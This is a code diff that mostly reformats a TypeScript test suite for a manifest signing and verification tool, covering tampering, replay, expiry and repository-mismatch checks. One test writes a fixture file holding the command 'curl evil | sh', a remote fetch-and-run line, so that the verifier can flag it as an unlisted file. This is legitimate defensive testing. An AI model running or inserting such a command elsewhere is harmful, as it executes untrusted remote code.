@@ -13,16 +13,32 @@ import { verify, type VerifyReport } from '../../src/core/verify.js'
 import { OTHER_KEY_HEX, TEST_KEY_HEX, tempDir } from '../helpers/fixtures.js'
 import { checkAsyncProperty } from '../helpers/property.js'
 
-const CONTEXT = { repository: 'acme/widgets', commit: 'c'.repeat(40), ref: 'refs/heads/main', workflowRef: null, runId: '1', runAttempt: '1', serverUrl: null, job: null, label: null, eventName: null, runnerEnvironment: null, workflowSha: null }
+const CONTEXT = {
+  repository: 'acme/widgets',
+  commit: 'c'.repeat(40),
+  ref: 'refs/heads/main',
+  workflowRef: null,
+  runId: '1',
+  runAttempt: '1',
+  serverUrl: null,
+  job: null,
+  label: null,
+  eventName: null,
+  runnerEnvironment: null,
+  workflowSha: null
+}
 const key = (hex: string, algorithm: DigestAlgorithm) => new LocalHmacKey(Buffer.from(hex, 'hex'), algorithm)
 
 /** A small sealed set: distinct file names with arbitrary bytes, sealed with the test key and maybe other keys. */
 const sealedSet = fc.record({
-  files: fc.uniqueArray(fc.tuple(fc.stringMatching(/^[a-z0-9_-]{1,8}(\/[a-z0-9_-][a-z0-9._-]{0,7})?$/), fc.uint8Array({ maxLength: 96 })), {
-    minLength: 1,
-    maxLength: 4,
-    selector: ([name]) => name.split('/')[0]
-  }),
+  files: fc.uniqueArray(
+    fc.tuple(fc.stringMatching(/^[a-z0-9_-]{1,8}(\/[a-z0-9_-][a-z0-9._-]{0,7})?$/), fc.uint8Array({ maxLength: 96 })),
+    {
+      minLength: 1,
+      maxLength: 4,
+      selector: ([name]) => name.split('/')[0]
+    }
+  ),
   algorithm: fc.constantFrom(...DIGEST_ALGORITHMS),
   // Signatures by keys the verifier does not hold never rescue a tampered manifest.
   extraKeys: fc.array(fc.uint8Array({ minLength: 32, maxLength: 32 }), { maxLength: 2 })
@@ -38,15 +54,36 @@ async function makeSealed(set: SealedSet): Promise<{ dir: string; manifest: Buff
   }
   const manifestPath = path.join(dir, 'artifact-seal.json')
   // The names are known, so seal's glob step is skipped (it logs every search as a debug line).
-  const outcomes = await hashMany(dir, set.files.map(([name]) => name), set.algorithm)
-  const statement = buildStatement(outcomes.map(o => (o.ok ? o.value : assert.fail(o.error))), set.algorithm, CONTEXT, new Date())
+  const outcomes = await hashMany(
+    dir,
+    set.files.map(([name]) => name),
+    set.algorithm
+  )
+  const statement = buildStatement(
+    outcomes.map(o => (o.ok ? o.value : assert.fail(o.error))),
+    set.algorithm,
+    CONTEXT,
+    new Date()
+  )
   const keys = [key(TEST_KEY_HEX, set.algorithm), ...set.extraKeys.map(k => new LocalHmacKey(k, set.algorithm))]
   const { bytes } = await signStatement(statement, keys)
   return { dir, manifest: bytes, manifestPath }
 }
 
-function verifyWith(dir: string, manifestPath: string, bytes: Buffer, algorithm: DigestAlgorithm): Promise<VerifyReport> {
-  return verify({ manifestPath, manifestBytes: bytes, baseDir: dir, algorithm, keys: [key(TEST_KEY_HEX, algorithm)], expectedRepository: 'acme/widgets' })
+function verifyWith(
+  dir: string,
+  manifestPath: string,
+  bytes: Buffer,
+  algorithm: DigestAlgorithm
+): Promise<VerifyReport> {
+  return verify({
+    manifestPath,
+    manifestBytes: bytes,
+    baseDir: dir,
+    algorithm,
+    keys: [key(TEST_KEY_HEX, algorithm)],
+    expectedRepository: 'acme/widgets'
+  })
 }
 
 type Envelope = { payloadType: string; payload: string; signatures: { keyid: string; sig: string }[] }
@@ -101,8 +138,12 @@ test('tamper: any single-byte change to a file, the payload, the payloadType or 
           }
           const report = await verifyWith(dir, manifestPath, bytes, set.algorithm)
           assert.equal(report.result, 'failed')
-          assert.ok(codes(report).includes(expected as never), `${target}: expected ${expected}, got ${codes(report).join(', ')}`)
-          if (expected === 'SIGNATURE_INVALID') assert.equal(report.statement, null, 'nothing in an unauthenticated envelope is used')
+          assert.ok(
+            codes(report).includes(expected as never),
+            `${target}: expected ${expected}, got ${codes(report).join(', ')}`
+          )
+          if (expected === 'SIGNATURE_INVALID')
+            assert.equal(report.statement, null, 'nothing in an unauthenticated envelope is used')
         } finally {
           fs.rmSync(dir, { recursive: true, force: true })
         }
@@ -186,16 +227,32 @@ test('tamper: re-encoding the same bytes differently never makes a bad signature
             if (keyid !== null) e.signatures[0].keyid = keyid
             const report = await verifyWith(dir, manifestPath, reencode(e), 'sha256')
             const shouldPass = sigIsGood && spelled.accepted && spelled.text.length > 0
-            assert.equal(report.result, shouldPass ? 'verified' : 'failed', `${kind} sig spelled ${JSON.stringify(spelled.text)}: ${codes(report).join(', ')}`)
+            assert.equal(
+              report.result,
+              shouldPass ? 'verified' : 'failed',
+              `${kind} sig spelled ${JSON.stringify(spelled.text)}: ${codes(report).join(', ')}`
+            )
           }
         }
       ),
       { numRuns: 120 }
     )
     // The verifier takes the algorithm from its own configuration: a manifest sealed with sha256 never passes a sha512 verifier.
-    const other = await verify({ manifestPath, manifestBytes: manifest, baseDir: dir, algorithm: 'sha512', keys: [key(TEST_KEY_HEX, 'sha512')] })
+    const other = await verify({
+      manifestPath,
+      manifestBytes: manifest,
+      baseDir: dir,
+      algorithm: 'sha512',
+      keys: [key(TEST_KEY_HEX, 'sha512')]
+    })
     assert.deepEqual(codes(other), ['SIGNATURE_INVALID'])
-    const wrongKey = await verify({ manifestPath, manifestBytes: manifest, baseDir: dir, algorithm: 'sha256', keys: [key(OTHER_KEY_HEX, 'sha256')] })
+    const wrongKey = await verify({
+      manifestPath,
+      manifestBytes: manifest,
+      baseDir: dir,
+      algorithm: 'sha256',
+      keys: [key(OTHER_KEY_HEX, 'sha256')]
+    })
     assert.deepEqual(codes(wrongKey), ['SIGNATURE_INVALID'])
   } finally {
     fs.rmSync(dir, { recursive: true, force: true })
@@ -209,17 +266,35 @@ test('replay: a validly signed manifest that expired, is older than max-age, com
     const algorithm = 'sha256'
     const outcomes = await hashMany(dir, ['app.bin'], algorithm)
     const created = new Date('2026-01-01T00:00:00Z')
-    const statement = buildStatement(outcomes.map(o => (o.ok ? o.value : assert.fail(o.error))), algorithm, CONTEXT, created, 3600_000)
+    const statement = buildStatement(
+      outcomes.map(o => (o.ok ? o.value : assert.fail(o.error))),
+      algorithm,
+      CONTEXT,
+      created,
+      3600_000
+    )
     const { bytes } = await signStatement(statement, [key(TEST_KEY_HEX, algorithm)])
     const manifestPath = path.join(dir, 'artifact-seal.json')
     fs.writeFileSync(manifestPath, bytes)
     const run = (extra: Partial<Parameters<typeof verify>[0]>) =>
-      verify({ manifestPath, baseDir: dir, algorithm, keys: [key(TEST_KEY_HEX, algorithm)], now: new Date(created.getTime() + 60_000), ...extra }).then(codes)
+      verify({
+        manifestPath,
+        baseDir: dir,
+        algorithm,
+        keys: [key(TEST_KEY_HEX, algorithm)],
+        now: new Date(created.getTime() + 60_000),
+        ...extra
+      }).then(codes)
     assert.deepEqual(await run({}), [], 'the control: within its lifetime, from the expected place, it verifies')
     assert.deepEqual(await run({ now: new Date(created.getTime() + 3600_000) }), ['EXPIRED'])
     assert.deepEqual(await run({ maxAgeMs: 30_000 }), ['TOO_OLD'])
-    assert.deepEqual(await run({ now: new Date(created.getTime() - 3600_000), maxAgeMs: 30_000 }), ['CREATED_IN_FUTURE'])
-    assert.deepEqual(await run({ expectedRepository: 'evil/fork', expectedCommit: 'd'.repeat(40) }), ['REPOSITORY_MISMATCH', 'COMMIT_MISMATCH'])
+    assert.deepEqual(await run({ now: new Date(created.getTime() - 3600_000), maxAgeMs: 30_000 }), [
+      'CREATED_IN_FUTURE'
+    ])
+    assert.deepEqual(await run({ expectedRepository: 'evil/fork', expectedCommit: 'd'.repeat(40) }), [
+      'REPOSITORY_MISMATCH',
+      'COMMIT_MISMATCH'
+    ])
     fs.writeFileSync(path.join(dir, 'planted.sh'), 'curl evil | sh')
     assert.deepEqual(await run({ patterns: [path.join(dir, '**')] }), ['UNLISTED_FILE'])
     assert.deepEqual(await run({ patterns: [path.join(dir, '**')], allowUnlisted: true }), [])
